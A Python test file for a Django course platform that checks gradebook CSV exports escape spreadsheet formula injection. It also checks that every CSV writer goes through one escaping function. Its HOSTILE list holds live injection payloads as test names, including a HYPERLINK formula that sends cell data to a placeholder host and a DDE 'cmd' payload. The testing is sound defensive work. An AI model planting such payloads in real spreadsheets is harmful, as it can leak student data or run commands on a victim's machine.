"""Spreadsheet formula injection (issue 24): a name a student typed reaches the instructor's
gradebook CSV as text, never as a formula a spreadsheet runs; and every CSV the site writes
goes through the one writer that escapes."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.platform import classroom as make

PLATFORM = Path(__file__).resolve().parents[3] / "platform"
HOSTILE = ['=HYPERLINK("http://x/?l="&C4&D4,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.django_db
def test_a_name_that_reads_as_a_formula_is_exported_as_text(client):
    students = [make.user(f"s{i}", email=f"s{i}@example.org", first_name=name) for i, name in enumerate(HOSTILE)]
    plain = make.user("plain", email="plain@example.org", first_name="Ada", last_name="Lovelace")
    course = make.course(students=[*students, plain])
    make.assignment(course, make.exercise())
    client.force_login(course.memberships.get(role="instructor").user)
    exported = client.get(reverse("courses:gradebook_csv", args=[course.pk]))
    table = list(csv.reader(io.StringIO(exported.content.decode())))
    rows = {row[2]: row for row in table[2:]}
    for i, name in enumerate(HOSTILE):
        assert rows[f"s{i}"][0] == "'" + name.strip(), rows[f"s{i}"]  # get_full_name() strips
    assert rows["plain"][0] == "Ada Lovelace"
    assert table[1][:1] + table[1][5:6] == ["Points Possible", "10"]  # numbers stay numbers
    assert rows["s0"][3] == "s0@example.org"


def test_a_tab_or_carriage_return_at_the_start_of_a_cell_is_escaped_too():
    from courses.exports import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("\t=1", "\r=1", "ok", -3, 2.5)] == ["'\t=1", "'\r=1", "ok", -3, 2.5]


def test_every_csv_the_site_writes_goes_through_the_escaping_writer():
    writers = [
        str(path.relative_to(PLATFORM))
        for path in PLATFORM.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["courses/exports.py"], writers
